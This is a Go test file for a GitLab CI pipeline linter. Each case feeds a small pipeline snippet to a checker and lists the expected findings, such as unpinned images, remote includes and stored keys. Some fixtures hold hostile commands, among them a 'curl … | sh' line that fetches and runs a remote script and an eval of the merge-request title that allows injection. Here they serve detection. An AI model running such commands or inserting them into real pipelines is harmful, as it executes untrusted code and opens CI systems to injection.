package pipelines

import (
	"slices"
	"testing"

	"github.com/paddock-dev/paddock/internal/life/check/tree"
)

// TestGitLabRules gives each rule what it must find and what it must leave.
func TestGitLabRules(t *testing.T) {
	const job = "a:\n  image: node@sha256:1\n  script:\n    - ./x\n"
	for name, c := range map[string]struct {
		text string
		want []string
	}{
		"clean":                {job, nil},
		"remote":               {"include:\n  - remote: https://x.example/a.yml\n" + job, []string{"pipeline_include_remote"}},
		"remote with its hash": {"include:\n  - remote: https://x.example/a.yml\n    integrity: sha256-x\n" + job, nil},
		"remote as text":       {"include: https://x.example/a.yml\n" + job, []string{"pipeline_include_remote"}},
		"project without ref":  {"include:\n  - project: a/b\n    file: c.yml\n" + job, []string{"pipeline_include_remote"}},
		"project with ref":     {"include:\n  - project: a/b\n    ref: v1.2.3\n    file: c.yml\n" + job, nil},
		"newest component":     {"include:\n  - component: x.example/a/b@~latest\n" + job, []string{"pipeline_include_remote"}},
		"local that is there":  {"include: /ci/a.gitlab-ci.yml\n" + job, nil},
		"local that is gone":   {"include: /ci/b.yml\n" + job, []string{"pipeline_include_missing"}},
		"image by tag":         {"a:\n  image: node:22\n  script: ./x\n", []string{"pipeline_image_unpinned"}},
		"image by name":        {"default:\n  image:\n    name: node:22\n" + job, []string{"pipeline_image_unpinned"}},
		"image of a variable":  {"a:\n  image: $IMAGE\n  script: ./x\n", nil},
		"docker in docker":     {"a:\n  services:\n    - docker:27-dind\n  script: ./x\n", []string{"pipeline_docker_root"}},
		"title read as code":   {"a:\n  script:\n    - eval \"echo $CI_MERGE_REQUEST_TITLE\"\n", []string{"pipeline_injection"}},
		"title as a value":     {"a:\n  script:\n    - echo \"$CI_MERGE_REQUEST_TITLE\"\n", nil},
		"stored key":           {"variables:\n  AWS_SECRET_ACCESS_KEY: $KEY\n" + job, []string{"pipeline_stored_key"}},
		"scan that may fail":   {"secret_detection:\n  allow_failure: true\n  script: ./x\n", []string{"pipeline_scan_ignored"}},
		"test that may fail":   {"flaky:\n  allow_failure: true\n  script: ./x\n", nil},
		"whole folder kept":    {"a:\n  script: ./x\n  artifacts:\n    paths: [.]\n", []string{"pipeline_artifact_wide"}},
		"result kept":          {"a:\n  script: ./x\n  artifacts:\n    paths: [dist/]\n", nil},
		"curl to a shell":      {"a:\n  script:\n    - curl https://x.example/i.sh | sh\n", []string{"pipeline_download_run"}},
		"slip":                 {"a:\n  scirpt:\n    - ./x\n", []string{"pipeline_key_unknown", "pipeline_part_missing"}},
		"nothing to do":        {"a:\n  stage: test\n", []string{"pipeline_part_missing"}},
		"look-alike dash":      {"before\u2011job:\n  script: ./x\n", []string{"pipeline_dash"}},
		"inputs":               {"spec:\n  inputs:\n    a: {}\n---\n" + job, nil},
	} {
		t.Run(name, func(t *testing.T) {
			res := check(tree.File{Path: ".gitlab-ci.yml", Text: []byte(c.text)}, tree.File{Path: "ci/a.gitlab-ci.yml", Text: []byte("b:\n  script: ./y\n")})
			var got []string
			for _, f := range res.Findings {
				got = append(got, f.Code)
			}
			slices.Sort(got)
			if !slices.Equal(got, c.want) {
				t.Errorf("got %v, want %v", got, c.want)
			}
		})
	}
}
